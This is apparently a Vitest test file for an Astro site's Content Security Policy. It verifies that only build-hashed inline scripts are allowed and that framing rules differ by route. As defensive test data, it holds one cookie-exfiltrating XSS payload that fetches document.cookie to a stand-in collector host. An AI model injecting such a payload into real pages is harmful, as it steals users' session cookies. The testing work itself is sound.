/**
 * The page policy allows our own inline scripts and never one that is not ours (issue 17, finding 10: the
 * former middleware hashed every inline script of the outgoing HTML, so an injected one was allowed too).
 * Astro's header is written by Astro's own writer (renderCspContent) from the hashes of Astro's own
 * prebuilt scripts; a script counts as allowed the way a browser decides it (CSP Level 3, "does inline
 * content match a hash source": base64 of the SHA-256 of the script's UTF-8 text, among script-src).
 */
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import islandScript from 'astro/runtime/server/astro-island.prebuilt.js';
import loadDirective from 'astro/client/load.prebuilt.js';
import { renderCspContent } from 'astro/runtime/server/render/csp.js';
import { buildCsp, inlineScriptsOf, policyFor, scriptHashesOf } from '../../../src/lib/server/csp';
import { NIGHT_MODE_SCRIPT } from '../../../src/components/ui/night-mode-script';

const digest = (text: string) => `sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}`;

/** The header Astro sets on a page it renders, from build-time hashes (here: its island runtime, `client:load`, our night-mode script). */
const astroHeader: string = renderCspContent({
  scriptHashes: [digest(islandScript), digest(loadDirective), digest(NIGHT_MODE_SCRIPT)],
  styleHashes: [digest('astro-island,astro-slot{display:contents}')],
  _metadata: { extraScriptHashes: [], extraStyleHashes: [] },
  directives: [],
  scriptResources: [],
  styleResources: [],
  isStrictDynamic: false,
} as unknown as Parameters<typeof renderCspContent>[0]);

/** Would a browser run this inline script under `policy`? (CSP3 §6.7.3.3, hash sources of script-src only.) */
function allows(policy: string, script: string): boolean {
  const directive = policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src '))!;
  const sources = directive.split(/\s+/).slice(1);
  if (sources.includes("'unsafe-inline'") && !sources.some((s) => s.startsWith("'sha") || s.startsWith("'nonce-"))) return true;
  return sources.includes(`'${digest(script)}'`);
}

const INJECTED = "fetch('https://collector.example/?c='+encodeURIComponent(document.cookie))";
const page = `<!doctype html><html><head><title>Scene</title></head><body>
<script>${NIGHT_MODE_SCRIPT}</script>
<script>${loadDirective}</script><script>${islandScript}</script>
<astro-island uid="Z1" component-url="/_astro/SkyView.js" client="load"></astro-island>
<div class="caption"><p>Tonight’s plan</p><script>${INJECTED}</script></div>
<script type="application/ld+json">{"@type":"Event"}</script>
</body></html>`;

describe('content security policy of a page', () => {
  test('allows each inline script our build produced and not the injected one', () => {
    const policy = policyFor('/s/abc', astroHeader);
    const scripts = inlineScriptsOf(page);
    expect(scripts).toHaveLength(4);
    expect(allows(policy, NIGHT_MODE_SCRIPT)).toBe(true);
    expect(allows(policy, loadDirective)).toBe(true);
    expect(allows(policy, islandScript)).toBe(true);
    expect(allows(policy, INJECTED)).toBe(false);
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  });

  test('the policy depends on the build, not on the HTML: the same with or without the injected script', () => {
    expect(policyFor('/s/abc', astroHeader)).toBe(buildCsp(false, scriptHashesOf(astroHeader)));
    expect(scriptHashesOf(astroHeader)).toHaveLength(3);
    // Astro's style hashes are not taken over: React writes style attributes, which a hash list would block.
    expect(policyFor('/s/abc', astroHeader)).toContain("style-src 'self' 'unsafe-inline'");
  });

  test('a response Astro did not render as a page (API answers) allows no inline script at all', () => {
    const policy = policyFor('/api/me', null);
    expect(policy).toMatch(/script-src 'self';/);
    for (const s of [NIGHT_MODE_SCRIPT, islandScript, INJECTED]) expect(allows(policy, s)).toBe(false);
  });

  test('only hash sources are taken from Astro’s header (no keyword or host can widen ours)', () => {
    const widened = "script-src 'self' 'unsafe-inline' https://cdn.example 'sha256-AAAA' 'strict-dynamic'; style-src 'self';";
    expect(scriptHashesOf(widened)).toEqual(["'sha256-AAAA'"]);
    expect(policyFor('/x', widened)).toMatch(/script-src 'self' 'sha256-AAAA';/);
  });

  test('embed pages may be framed; every other page refuses it', () => {
    expect(policyFor('/embed/tok', astroHeader)).toContain('frame-ancestors *');
    expect(policyFor('/s/tok', astroHeader)).toContain("frame-ancestors 'none'");
    expect(policyFor('/embedded', astroHeader)).toContain("frame-ancestors 'none'");
  });
});
